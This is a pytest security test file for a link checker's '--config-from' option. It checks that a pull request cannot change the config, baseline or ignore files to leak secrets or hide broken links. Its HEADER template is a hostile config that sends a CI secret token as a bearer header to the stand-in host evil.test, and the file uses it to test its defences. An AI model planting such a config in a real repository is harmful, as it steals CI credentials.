"""`--config-from REV`: config, baseline and ignore files as a commit has them; a pull request cannot change them."""

import json
from pathlib import Path

import pytest

from tests.security.conftest import Git
from tests.security.hostile import SECRET, linkcheck, recording

HEADER = '[{table}hosts."evil.test:{port}"]\nheaders = {{ authorization = "Bearer ${{LINKCHECK_SECRET_TOKEN}}" }}\n'


def committed(top: Path, git: Git, **files: str) -> None:
    """Write files, and commit them; two underlines stand for a slash, one for a dot."""
    for name, text in files.items():
        path = top / name.replace("__", "/").replace("_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    git("add", "-A", cwd=top)
    git("commit", "-qm", "more", cwd=top)


@pytest.mark.parametrize(
    ("name", "table", "options"),
    [
        ("linkcheck.toml", "", []),
        ("pyproject.toml", "tool.linkcheck.", []),
        ("config.toml", "linkcheck.", []),
        ("ci/links.toml", "linkcheck.", ["--config", "ci/links.toml"]),
        ("linkcheck.toml", "", ["--config", "linkcheck.toml"]),
    ],
)
def test_a_pull_request_that_changes_the_config_gets_no_secret(
    repository: Path, git: Git, name: str, table: str, options: list[str]
) -> None:
    """The action passes the base commit; the pull request is checked out."""
    with recording(repository.parent / "server", "evil.test") as server:
        config = repository / name
        config.parent.mkdir(exist_ok=True)
        head = table.rstrip(".")
        config.write_text((f"[{head}]\n" if head else "") + "retries = 1\n")
        (repository / "docs" / "a.md").write_text(f"[x](https://evil.test:{server.port}/page)\n")
        git("add", "-A", cwd=repository)
        git("commit", "-qm", "base", cwd=repository)
        git("tag", "base", cwd=repository)
        config.write_text(HEADER.format(table=table, port=server.port))
        git("commit", "-qam", "a stranger's", cwd=repository)
        said = ["docs", "--no-store", "--config-from", "base", *server.options("evil.test"), "--format", "json"]

        result = linkcheck(*said, *options, cwd=repository, LINKCHECK_SECRET_TOKEN=SECRET)

        assert result.stderr == ""
        assert [one["verdict"] for one in json.loads(result.stdout)["references"]] == ["alive"]
        assert "GET /page" in server.heard
        assert SECRET not in server.heard


def test_a_secret_reaches_the_host_for_which_the_base_has_it(repository: Path, git: Git) -> None:
    """The same path, trusted: the tests above are able to fail."""
    with recording(repository.parent / "server", "evil.test") as server:
        committed(repository, git, linkcheck_toml=HEADER.format(table="", port=server.port))
        (repository / "linkcheck.toml").write_text("retries = 1\n")
        (repository / "docs" / "a.md").write_text(f"[x](https://evil.test:{server.port}/page)\n")
        said = ["docs", "--no-store", "--config-from", "HEAD", *server.options("evil.test")]

        linkcheck(*said, cwd=repository, LINKCHECK_SECRET_TOKEN=SECRET)

        assert f"Bearer {SECRET}" in server.heard


def test_a_config_that_the_user_names_is_trusted_on_his_machine(repository: Path) -> None:
    with recording(repository.parent / "server", "evil.test") as server:
        (repository / "mine.toml").write_text(HEADER.format(table="linkcheck.", port=server.port))
        (repository / "docs" / "a.md").write_text(f"[x](https://evil.test:{server.port}/page)\n")
        said = ["docs", "--no-store", "--config", "mine.toml", *server.options("evil.test")]

        linkcheck(*said, cwd=repository, LINKCHECK_SECRET_TOKEN=SECRET)

        assert f"Bearer {SECRET}" in server.heard


def offline(*arguments: str, cwd: Path) -> tuple[int, list[str], str]:
    """Run without network; return the exit code, the verdicts, and stderr."""
    result = linkcheck(*arguments, "--offline", "--no-store", "--format", "json", cwd=cwd)
    report = json.loads(result.stdout) if result.stdout else {"references": []}
    return result.returncode, [one["verdict"] for one in report["references"]], result.stderr


def test_a_named_config_outside_of_the_tree_is_read_as_it_is(repository: Path) -> None:
    (repository / "docs" / "a.md").write_text("[x](gone.md)\n")
    outside = repository.parent / "mine.toml"
    outside.write_text('[linkcheck]\nexclude = ["gone"]\nfail-when = "any"\n')

    code, verdicts, said = offline("docs", "--config", str(outside), "--config-from", "HEAD", cwd=repository)

    assert (code, verdicts, said) == (0, ["skipped"], "")


def test_a_named_config_that_the_commit_has_not_does_not_count(repository: Path) -> None:
    (repository / "docs" / "a.md").write_text("[x](gone.md)\n")
    (repository / "new.toml").write_text('[linkcheck]\nexclude = ["gone"]\n')
    options = ["docs", "--config", "new.toml", "--config-from", "HEAD"]

    code, verdicts, said = offline(*options, cwd=repository)

    assert (code, verdicts) == (1, ["dead"])
    assert said.count("linkcheck: ") == 1
    assert "new.toml: is not in HEAD, so no config counts" in said
    code, _, said = offline(*options, "--strict-config", cwd=repository)
    assert (code, said.count("is not in HEAD")) == (2, 1)


def test_a_link_in_the_tree_does_not_lead_to_a_config_outside(repository: Path) -> None:
    (repository.parent / "mine.toml").write_text('[linkcheck]\nexclude = ["gone"]\n')
    (repository / "linkcheck.toml").symlink_to("../mine.toml")
    (repository / "docs" / "a.md").write_text("[x](gone.md)\n")

    code, verdicts, _ = offline("docs", "--config", "linkcheck.toml", "--config-from", "HEAD", cwd=repository)

    assert (code, verdicts) == (1, ["dead"])


def test_the_config_of_the_commit_is_found_from_below_and_its_paths_start_at_its_folder(
    repository: Path, git: Git
) -> None:
    committed(repository, git, linkcheck_toml='sources = ["docs"]\nexclude-path = ["docs/old.md"]\n')
    (repository / "linkcheck.toml").unlink()
    (repository / "docs" / "old.md").write_text("[x](gone.md)\n")
    (repository / "docs" / "a.md").write_text("[x](#)\n")

    code, verdicts, said = offline("--config-from", "HEAD", cwd=repository / "docs")

    assert (code, verdicts, said) == (1, ["placeholder"], "")


def test_a_pull_request_cannot_excuse_its_failures_by_the_baseline(repository: Path, git: Git) -> None:
    (repository / "docs" / "a.md").write_text("[x](gone.md)\n")
    linkcheck("docs", "--offline", "--store", "../history.sqlite", cwd=repository)
    made = linkcheck("baseline", "create", "--store", "../history.sqlite", "-o", "known.json", cwd=repository)
    assert "1 known failure" in made.stderr
    known = (repository / "known.json").read_text()
    committed(
        repository, git, linkcheck_toml='baseline = "known.json"', known_json='{"linkcheck-baseline": 1, "known": []}'
    )
    (repository / "known.json").write_text(known)

    assert offline("docs", cwd=repository)[0] == 0  # a person's own clone
    assert offline("docs", "--config-from", "HEAD", cwd=repository)[0] == 1
    assert offline("docs", "--baseline", "known.json", "--config-from", "HEAD", cwd=repository)[0] == 1
    outside = repository.parent / "known.json"
    outside.write_text(known)
    assert offline("docs", "--baseline", str(outside), "--config-from", "HEAD", cwd=repository)[0] == 0


def test_a_baseline_that_the_commit_has_not_is_an_error(repository: Path) -> None:
    (repository / "known.json").write_text('{"linkcheck-baseline": 1, "known": []}')

    code, _, said = offline("docs", "--baseline", "known.json", "--config-from", "HEAD", cwd=repository)

    assert code == 2
    assert "there is no such baseline in HEAD" in said


@pytest.mark.parametrize(
    ("ignore", "lines"), [(".lycheeignore", "gone"), (".gitignore", "a.md"), ("docs/.gitignore", "a.md")]
)
def test_a_pull_request_cannot_leave_out_what_it_broke(repository: Path, git: Git, ignore: str, lines: str) -> None:
    (repository / "docs" / "b.md").write_text("[x](#y)\n\n# y\n")
    (repository / "docs" / "a.md").write_text("[x](gone.md)\n")
    git("add", "-A", cwd=repository)
    git("commit", "-qm", "base", cwd=repository)
    (repository / ignore).write_text(f"{lines}\n")

    assert offline("docs", cwd=repository)[0] == 0
    assert offline("docs", "--config-from", "HEAD", cwd=repository)[0] == 1
    listed = linkcheck("extract", "docs", "--config-from", "HEAD", cwd=repository)
    assert "gone.md" in listed.stdout


@pytest.mark.parametrize(("ignore", "lines"), [(".lycheeignore", "gone"), (".gitignore", "a.md")])
def test_the_ignore_files_of_the_commit_count_though_the_tree_lacks_them(
    repository: Path, git: Git, ignore: str, lines: str
) -> None:
    (repository / ignore).write_text(f"{lines}\n")
    (repository / "docs" / "b.md").write_text("nothing\n")
    git("add", "-A", cwd=repository)
    git("commit", "-qm", "base", cwd=repository)
    (repository / ignore).unlink()
    (repository / "docs" / "a.md").write_text("[x](gone.md)\n")

    assert offline("docs", cwd=repository)[0] == 1
    assert offline("docs", "--config-from", "HEAD", cwd=repository)[0] == 0


@pytest.mark.parametrize("revision", ["nowhere", "HEAD:docs/a.md", "--help", "HEAD~9"])
def test_a_revision_that_is_no_commit_is_an_error_with_the_remedy(repository: Path, revision: str) -> None:
    code, _, said = offline("docs", f"--config-from={revision}", cwd=repository)

    assert code == 2
    assert f"knows no commit {revision!r} here" in said


def test_without_a_repository_there_is_no_commit(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()

    code, _, said = offline(".", "--config-from", "HEAD", cwd=tmp_path / "folder")

    assert code == 2
    assert "there is no Git repository here" in said
